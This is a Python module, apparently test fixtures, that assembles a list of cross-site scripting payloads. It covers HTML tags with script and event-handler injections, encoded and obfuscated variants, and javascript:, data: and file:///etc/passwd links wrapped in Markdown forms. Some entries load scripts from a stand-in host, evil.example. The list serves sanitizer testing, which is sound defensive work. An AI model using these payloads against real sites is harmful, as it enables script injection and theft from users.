"""Texts that try to become more than text on a page: HTML, and misleading Markdown."""

from __future__ import annotations

_HTML = """
<script>alert(1)</script>
<SCRIPT SRC=//evil.example/x.js></SCRIPT>
<script\x0c>alert(1)</script>
<scr<script>ipt>alert(1)</scr</script>ipt>
<img src=x onerror=alert(1)>
<img src=x:alert(alt) onerror=eval(src) alt=0>
<img/src="x"/onerror=alert(1)>
<svg onload=alert(1)>
<svg><script>alert(1)</script></svg>
<svg/onload=alert(1)//
<math><mi xlink:href="javascript:alert(1)">x</mi></math>
<body onload=alert(1)>
<iframe src="javascript:alert(1)"></iframe>
<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"></iframe>
<object data="javascript:alert(1)"></object>
<embed src="javascript:alert(1)">
<a href="javascript:alert(1)">x</a>
<a href=javascript&colon;alert(1)>x</a>
<form action="javascript:alert(1)"><button>x</button></form>
<button formaction=javascript:alert(1)>x</button>
<input autofocus onfocus=alert(1)>
<details open ontoggle=alert(1)>
<video><source onerror=alert(1)></video>
<audio src=x onerror=alert(1)>
<marquee onstart=alert(1)>
<style>@import '//evil.example'</style>
<link rel=stylesheet href=//evil.example>
<meta http-equiv=refresh content="0;url=javascript:alert(1)">
<base href=//evil.example/>
<template><script>alert(1)</script></template>
<noscript><p title="</noscript><img src=x onerror=alert(1)>">
<!--><script>alert(1)</script>-->
<!-- --!><img src=x onerror=alert(1)>
<![CDATA[<script>alert(1)</script>]]>
<?xml version="1.0"?><script>alert(1)</script>
<!DOCTYPE html [<!ENTITY x "<script>alert(1)</script>">]>
</p></div></article><script>alert(1)</script>
</textarea><script>alert(1)</script>
</title><script>alert(1)</script>
"><script>alert(1)</script>
'><img src=x onerror=alert(1)>
` onmouseover=alert(1) `
{{7*7}}{% raw %}<script>
&lt;script&gt;alert(1)&lt;/script&gt;
&#60;script&#62;alert(1)&#60;/script&#62;
&#x3c;img src=x onerror=alert(1)&#x3e;
%3Cscript%3Ealert(1)%3C/script%3E
\u003cscript\u003ealert(1)\u003c/script\u003e
＜script＞alert(1)＜/script＞
<x onclick=alert(1)>click</x>
<plaintext>
<listing><img src=x onerror=alert(1)></listing>
<xmp><script>alert(1)</script></xmp>
<isindex type=image src=1 onerror=alert(1)>
""".strip().splitlines()
_ADDRESSES = r"""
javascript:alert(1) JaVaScRiPt:alert(1) javascript&colon;alert(1) javascript&#58;alert(1)
java&#10;script:alert(1) java&Tab;script:alert(1) &#x6A;avascript:alert(1) %6aavascript:alert(1)
\javascript:alert(1) vbscript:msgbox(1) data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==
data:image/svg+xml,%3Csvg%20onload=alert(1)%3E file:///etc/passwd blob:http://localhost/x
//evil.example/x /wizard/review/apply ?token=1 #latest ftp://evil.example http:evil.example
http://x"onmouseover=alert(1) https://evil.example/'onload='alert(1) http://[evil tel:123
"""
_FORMS = (
    "[x]({})",
    "[x](<{}>)",
    "![x]({})",
    "<{}>",
    "[x]\n\n[x]: {}",
    "[![x]({0})]({0})",
    '[x]({} "t\' onclick=alert(1)")',
    "- [x]({})\n\n| [x]({}) |\n|---|\n",
)
XSS = [
    *_HTML,
    *(
        form.replace("{0}", "{}").replace("{}", url)
        for form in _FORMS
        for url in _ADDRESSES.split()
    ),
]
